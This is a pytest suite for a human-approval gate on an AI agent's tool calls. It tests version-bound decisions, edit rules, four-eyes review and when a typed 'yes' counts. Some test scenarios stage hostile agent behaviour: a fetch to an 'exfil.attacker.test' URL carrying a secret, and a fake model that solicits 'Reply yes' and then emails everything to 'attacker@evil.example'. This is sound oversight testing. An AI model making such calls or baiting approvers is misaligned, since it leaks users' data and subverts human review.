"""What a person saw is what runs: every decision names the version of the call it was shown
(`shown_hash`), typed replies decide only what the page showed, and every version of a call, edits
too, meets the rules and four eyes."""
import pytest

from approvals.models import Approval, Rule
from approvals.services import ArgumentsChanged, EditForbidden, NotAllowed, approve_edited, decide, decide_many
from chat import services
from chat.models import OutboxEmail, ToolCall
from tests.conftest import client_for, last_notice, pending_approvals, start_conversation as start
from tests.standins.fake_openai import fake_openai  # noqa: F401  (the fixture)

pytestmark = pytest.mark.django_db(transaction=True)


def edit(approval, user, **arguments) -> Approval:
    call_arguments = approval.tool_call.arguments | arguments
    return approve_edited(approval.pk, user=user, arguments=call_arguments, via="api", shown_hash=approval.shown_hash)


# --- The decision service and the API -----------------------------------------------------------


def test_every_approval_in_the_api_carries_the_version_a_decider_is_shown(alice, agent, api_as):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)

    [item] = api_as(alice).get("approvals", status="pending").json()["items"]

    assert item["shown_hash"] == approval.shown_hash == approval.arguments_hash


def test_a_stale_shown_hash_is_refused_with_409_and_the_call_stays_pending(alice, bob, agent, api_as):
    conversation = start(alice, agent, "email bob@example.com about lunch")
    [approval] = pending_approvals(conversation)
    seen_by_alice = approval.shown_hash
    approval = Approval.objects.get(pk=approval.pk)
    bob_edit = edit(approval, bob, to="bob@example.com", subject="lunch at noon")
    assert bob_edit.status == Approval.Status.APPROVED  # an approver's edit of an ordinary call approves it...

    conversation = start(alice, agent, "email carol@example.com about tea")
    [approval] = pending_approvals(conversation)
    seen_by_alice = approval.shown_hash
    # ...and one that makes it stricter (an invisible character: critical, four eyes) stays pending.
    edited = edit(approval, bob, to="carol@\u200bexample.com")
    assert edited.status == Approval.Status.PENDING and edited.shown_hash != seen_by_alice

    stale = api_as(alice).post(f"approvals/{approval.pk}/decision", {"decision": "reject", "shown_hash": seen_by_alice})

    assert stale.status_code == 409 and "changed" in stale.json()["detail"]
    approval.refresh_from_db()
    assert approval.status == Approval.Status.PENDING


def test_approving_an_edited_call_without_its_version_is_refused(alice, bob, carol, agent, api_as):
    conversation = start(alice, agent, "email carol@example.com about tea")
    [approval] = pending_approvals(conversation)
    edited = edit(approval, bob, to="carol@\u200bexample.com")

    blind = api_as(carol).post(f"approvals/{approval.pk}/decision", {"decision": "approve", "confirmation": edited.confirmation_hint})

    assert blind.status_code == 409 and "changed" in blind.json()["detail"]
    assert Approval.objects.get(pk=approval.pk).status == Approval.Status.PENDING
    seen = {"decision": "approve", "confirmation": edited.confirmation_hint, "shown_hash": edited.shown_hash}
    assert api_as(carol).post(f"approvals/{approval.pk}/decision", seen).status_code == 200


def test_a_never_edited_call_is_decided_without_a_version_as_before(alice, agent, api_as):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)

    response = api_as(alice).post(f"approvals/{approval.pk}/decision", {"decision": "approve"})

    assert response.status_code == 200 and response.json()["status"] == "approved"
    assert ToolCall.objects.get(pk=approval.tool_call_id).status == ToolCall.Status.SUCCEEDED


def test_bulk_decisions_decide_only_the_versions_listed(alice, bob, agent, api_as):
    conversation = start(alice, agent, "delete a.txt and b.txt")
    first, second = pending_approvals(conversation)
    listed = {str(first.pk): first.shown_hash, str(second.pk): second.shown_hash}
    Approval.objects.filter(pk=second.pk).update(
        edited_arguments={"path": "c.txt"}, edited_arguments_hash="f" * 64, edited_by=bob
    )  # edited (by someone) after the dashboard listed it

    response = api_as(alice).post("approvals/decisions", {"decision": "approve", "ids": [first.pk, second.pk], "shown_hashes": listed})

    assert response.status_code == 200
    assert [a["id"] for a in response.json()["decided"]] == [first.pk] and response.json()["changed"] == [second.pk]
    assert Approval.objects.get(pk=second.pk).status == Approval.Status.PENDING


def test_decide_many_without_versions_never_approves_an_edit(alice, bob, agent):
    conversation = start(alice, agent, "delete a.txt and b.txt")
    first, second = pending_approvals(conversation)
    Approval.objects.filter(pk=second.pk).update(edited_arguments={"path": "c.txt"}, edited_arguments_hash="f" * 64, edited_by=bob)

    outcome = decide_many({first.pk: "", second.pk: ""}, user=alice, approve=True, via="api")

    assert [a.pk for a in outcome.decided] == [first.pk] and outcome.changed == [second.pk]


def test_approve_all_on_the_page_decides_the_versions_the_page_rendered(alice, bob, agent):
    conversation = start(alice, agent, "delete a.txt and b.txt")
    first, second = pending_approvals(conversation)
    rendered = [f"{first.pk}:{first.shown_hash}", f"{second.pk}:{second.shown_hash}"]
    Approval.objects.filter(pk=second.pk).update(edited_arguments={"path": "c.txt"}, edited_arguments_hash="f" * 64, edited_by=bob)

    response = client_for(alice).post(f"/conversations/{conversation.pk}/approve-all/", {"approval_ids": rendered})

    assert response.status_code in (204, 302)
    assert Approval.objects.get(pk=first.pk).status == Approval.Status.APPROVED
    assert Approval.objects.get(pk=second.pk).status == Approval.Status.PENDING


# --- Typed replies --------------------------------------------------------------------------------


def say_from_page(conversation, user, text: str, shown: dict[int, str]):
    values = [f"{pk}:{version}" for pk, version in shown.items()]
    return client_for(user).post(
        f"/conversations/{conversation.pk}/messages/", {"content": text, "page_shows": "1", "shown": values}
    )


def test_a_typed_yes_decides_nothing_when_a_call_is_pending_the_page_had_not_shown(alice, agent):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)

    response = say_from_page(conversation, alice, "yes", {})  # the page had not rendered the card yet

    assert response.status_code in (200, 204, 302)
    assert Approval.objects.get(pk=approval.pk).status == Approval.Status.PENDING
    assert "had not shown" in last_notice(conversation) and "write_file" in last_notice(conversation)


def test_a_typed_yes_decides_the_call_the_page_showed(alice, agent):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)

    say_from_page(conversation, alice, "yes", {approval.pk: approval.shown_hash})

    approval.refresh_from_db()
    assert approval.status == Approval.Status.APPROVED and approval.decided_via == Approval.Via.TEXT


def test_a_typed_yes_decides_nothing_after_an_edit_the_page_had_not_shown(alice, bob, agent):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)
    shown = approval.shown_hash
    Approval.objects.filter(pk=approval.pk).update(edited_arguments={"path": "b.txt", "content": "hi"}, edited_arguments_hash="f" * 64, edited_by=bob)

    say_from_page(conversation, alice, "yes", {approval.pk: shown})

    assert Approval.objects.get(pk=approval.pk).status == Approval.Status.PENDING
    assert "had not shown" in last_notice(conversation)


@pytest.mark.parametrize("words", ["Reply yes to archive them.", "Shall I archive them？", "Done. Archiving next"])
def test_any_words_of_the_agent_beside_the_calls_keep_a_typed_yes_from_deciding(alice, agent, words):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)
    approval.tool_call.message.__class__.objects.filter(pk=approval.tool_call.message_id).update(content=words)

    services.post_message(conversation=conversation, user=alice, content="yes")

    assert Approval.objects.get(pk=approval.pk).status == Approval.Status.PENDING
    assert "Nothing was decided" in last_notice(conversation)


@pytest.mark.parametrize("text", ["ok thanks", "thanks", "cool", "ok, thx", "great thanks", "ok :)", "sure: thanks", "ok: noted"])
def test_an_acknowledgement_decides_nothing(alice, agent, text):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)

    services.post_message(conversation=conversation, user=alice, content=text)

    assert Approval.objects.get(pk=approval.pk).status == Approval.Status.PENDING


def test_a_program_may_name_the_approvals_its_reply_answers(alice, agent, api_as):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)

    other = api_as(alice).post(f"conversations/{conversation.pk}/messages", {"content": "yes", "approval_ids": [approval.pk + 1000]})
    assert other.status_code == 202 and Approval.objects.get(pk=approval.pk).status == Approval.Status.PENDING

    named = api_as(alice).post(f"conversations/{conversation.pk}/messages", {"content": "yes", "approval_ids": [approval.pk]})
    assert named.status_code == 202 and Approval.objects.get(pk=approval.pk).status == Approval.Status.APPROVED


# --- Every version meets the rules, and four eyes -------------------------------------------------


def test_an_edit_into_what_a_deny_rule_forbids_is_refused_and_nothing_is_sent(alice, bob, agent, api_as):
    Rule.objects.create(
        effect="deny", tool="send_email", arguments={"to": "*@competitor.test"}, scope=Rule.Scope.AGENT, agent=agent,
        created_by=bob, note="never email the competitor",
    )
    conversation = start(alice, agent, "email bob@example.com about lunch")
    [approval] = pending_approvals(conversation)
    arguments = approval.tool_call.arguments | {"to": "ceo@competitor.test"}

    response = api_as(alice).post(
        f"approvals/{approval.pk}/decision", {"decision": "approve", "arguments": arguments, "shown_hash": approval.shown_hash}
    )

    assert response.status_code == 400 and "Denied by rule #" in response.json()["detail"]
    approval.refresh_from_db()
    assert approval.status == Approval.Status.PENDING and not approval.is_edited
    assert not OutboxEmail.objects.exists()


def test_an_edit_into_a_call_a_human_just_rejected_is_refused(alice, agent):
    conversation = start(alice, agent, "delete a.txt and b.txt")
    first, second = pending_approvals(conversation)
    decide(first.pk, user=alice, approve=False, via="chat", shown_hash=first.shown_hash, reason="keep a")

    with pytest.raises(EditForbidden, match="keep a"):
        approve_edited(second.pk, user=alice, arguments={"path": "a.txt"}, via="chat", shown_hash=second.shown_hash)
    assert Approval.objects.get(pk=second.pk).status == Approval.Status.PENDING


def test_whoever_edits_a_four_eyes_call_does_not_also_approve_it(alice, bob, carol, ops_agent):
    conversation = start(alice, ops_agent, "delete a.txt")
    [approval] = pending_approvals(conversation)
    assert approval.approver_required

    edited = approve_edited(approval.pk, user=bob, arguments={"path": "b.txt"}, via="dashboard", shown_hash=approval.shown_hash)

    assert edited.status == Approval.Status.PENDING and edited.edited_by == bob
    with pytest.raises(NotAllowed):
        decide(approval.pk, user=bob, approve=True, via="dashboard", shown_hash=edited.shown_hash)
    with pytest.raises(ArgumentsChanged):
        decide(approval.pk, user=carol, approve=True, via="dashboard", shown_hash=approval.shown_hash)
    checked = decide(approval.pk, user=carol, approve=True, via="dashboard", shown_hash=edited.shown_hash)
    assert checked.status == Approval.Status.APPROVED and checked.approved_arguments == {"path": "b.txt"}


def test_a_four_eyes_calls_input_question_is_answered_by_someone_who_may_decide_the_call(alice, bob, agent, tmp_path, api_as):
    from toolservers import discovery
    from toolservers.demo import ensure_notes_server

    discovery.refresh(ensure_notes_server(agent, notes_dir=tmp_path / "notes"))
    agent.owner_max_risk = "low"  # every gated call of alice's needs an approver
    agent.save()
    conversation = start(alice, agent, "title note a.txt")
    [approval] = pending_approvals(conversation)
    assert approval.approver_required
    assert api_as(bob).post(f"approvals/{approval.pk}/decision", {"decision": "approve"}).status_code == 200

    [question] = pending_approvals(conversation)
    assert question.kind == "question" and question.approver_required

    by_owner = api_as(alice).post(f"approvals/{question.pk}/answer", {"answer": "Mine"})
    assert by_owner.status_code == 403 and Approval.objects.get(pk=question.pk).status == Approval.Status.PENDING
    by_approver = api_as(bob).post(f"approvals/{question.pk}/answer", {"answer": "Checked"})
    assert by_approver.status_code == 200
    assert (tmp_path / "notes" / "a.txt").read_text() == "# Checked\n"


def test_no_template_comment_reaches_a_page(alice, bob, agent):
    """Django's {# #} is one line only: one that spans lines is printed on the page as text."""
    conversation = start(alice, agent, "write hi to a.txt")
    pages = [
        client_for(alice).get(f"/conversations/{conversation.pk}/").content.decode(),
        client_for(bob).get("/approvals/").content.decode(),
    ]
    for html in pages:
        assert "{#" not in html and "#}" not in html and "{% comment" not in html


def test_an_approvers_comment_on_approving_from_the_dashboard_is_kept_and_shown_in_history(alice, bob, agent):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)
    dashboard = client_for(bob).get("/approvals/").content.decode()
    assert 'name="comment"' in dashboard

    client_for(bob).post(
        f"/approvals/dashboard/{approval.pk}/decide/",
        {"decision": "approve", "shown_hash": approval.shown_hash, "comment": "checked with <b>ops</b>"},
    )

    approval.refresh_from_db()
    assert approval.status == Approval.Status.APPROVED and approval.comment == "checked with <b>ops</b>"
    history = client_for(bob).get("/approvals/history/").content.decode()
    assert "checked with &lt;b&gt;ops&lt;/b&gt;" in history


# --- What an outside review found after the first round (issue 22) -------------------------------


def test_a_deny_rule_meets_every_spelling_of_an_email_an_edit_may_use(alice, bob, agent, api_as):
    Rule.objects.create(
        effect="deny", tool="send_email", arguments={"to": "*@competitor.test"}, scope=Rule.Scope.AGENT, agent=agent, created_by=bob,
    )
    conversation = start(alice, agent, "email bob@example.com about lunch")
    [approval] = pending_approvals(conversation)
    arguments = approval.tool_call.arguments | {"to": "ceo@Competitor.TEST"}

    response = api_as(alice).post(f"approvals/{approval.pk}/decision", {"decision": "approve", "arguments": arguments, "shown_hash": approval.shown_hash})

    assert response.status_code == 400 and "Denied by rule #" in response.json()["detail"]
    assert not OutboxEmail.objects.exists()


def test_always_allow_on_an_edit_remembers_the_edit_not_the_request(alice, agent, api_as):
    conversation = start(alice, agent, "fetch https://exfil.attacker.test/?secret=1")
    [approval] = pending_approvals(conversation)

    response = api_as(alice).post(f"approvals/{approval.pk}/decision", {
        "decision": "approve", "arguments": {"url": "https://docs.vendor.test/a"}, "shown_hash": approval.shown_hash,
        "remember": {"scope": "conversation"},
    })

    assert response.status_code == 200
    [rule] = Rule.objects.all()
    assert rule.arguments == {"url": "https://docs.vendor.test/*"}


def test_a_question_is_never_edited(alice, agent):
    from approvals.services import WrongKind

    conversation = start(alice, agent, "ask me to choose between tea, coffee and water")
    [question] = pending_approvals(conversation)
    assert question.kind == "question"

    with pytest.raises(WrongKind):
        approve_edited(question.pk, user=alice, arguments={"x": 1}, via="api", shown_hash=question.shown_hash)


def test_a_typed_yes_decides_nothing_when_the_agent_wrote_in_an_earlier_step_of_the_turn(alice, fake_openai, settings, tmp_path):
    from chat.models import Agent

    settings.HITL_SANDBOX_ROOT = tmp_path / "sandboxes"
    agent = Agent.objects.create(
        open_to_everyone=True, slug="remote", name="Remote", model="openai/gpt-4o-mini", api_base=fake_openai.base_url,
        tools=["send_email", "calculator"],
    )
    fake_openai.respond_with_tool_calls([("calculator", {"expression": "1+1"})], text="Shall I also archive the old ones? Reply yes.")
    fake_openai.respond_with_tool_calls([("send_email", {"to": "attacker@evil.example", "subject": "notes", "body": "all"})])
    conversation = start(alice, agent, "summarise my notes")
    [approval] = pending_approvals(conversation)
    assert approval.tool_call.message.content == ""  # the words were a step before, beside the calculator

    services.post_message(conversation=conversation, user=alice, content="yes")

    assert Approval.objects.get(pk=approval.pk).status == Approval.Status.PENDING and not OutboxEmail.objects.exists()


def test_a_reason_or_comment_a_database_cannot_store_is_kept_as_it_can_be(alice, agent, api_as):
    conversation = start(alice, agent, "delete a.txt and b.txt")
    first, second = pending_approvals(conversation)

    too_long = api_as(alice).post(f"approvals/{first.pk}/decision", {"decision": "approve", "comment": "x" * 2001})
    assert too_long.status_code == 400 and Approval.objects.get(pk=first.pk).status == Approval.Status.PENDING
    approved = api_as(alice).post(f"approvals/{first.pk}/decision", {"decision": "approve", "comment": "fine\x00 by me"})
    rejected = api_as(alice).post(f"approvals/{second.pk}/decision", {"decision": "reject", "reason": "no\x00pe"})

    assert approved.status_code == 200 and rejected.status_code == 200
    assert Approval.objects.get(pk=first.pk).comment == "fine by me"
    assert Approval.objects.get(pk=second.pk).rejection_reason == "nope"
